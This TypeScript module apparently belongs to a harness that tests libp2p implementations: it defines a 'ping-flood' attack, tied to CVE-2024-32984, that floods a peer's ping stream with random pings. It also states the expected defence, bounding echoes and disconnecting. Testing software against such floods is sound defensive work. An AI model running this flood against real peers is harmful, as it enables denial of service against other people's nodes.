import type { Attack } from "../../attack.ts";

const PING = "/ipfs/ping/1.0.0";
const PING_BYTES = 32;

export const pingFlood: Attack = {
  name: "ping-flood",
  group: "below",
  what: "Floods pings of libp2p's ping protocol on one stream; each must be echoed.",
  source: "CVE-2024-32984; libp2p's specification of ping",
  sound: "Bounds what it echoes, and hangs up within a heartbeat.",
  hangsUp: true,
  async run({ random, signal, join, flood, skip }) {
    const peer = await join();
    if (peer === null) return;
    const stream = await peer.connection.newStream(PING, { signal }).catch(() => null);
    if (stream === null) return skip("the target does not speak ping");
    // The echoes must be taken, or they hold up the pings.
    stream.addEventListener("message", () => {});
    await flood(peer, () => ({ bytes: random.bytes(PING_BYTES), messages: 0 }), { channel: stream });
  },
};
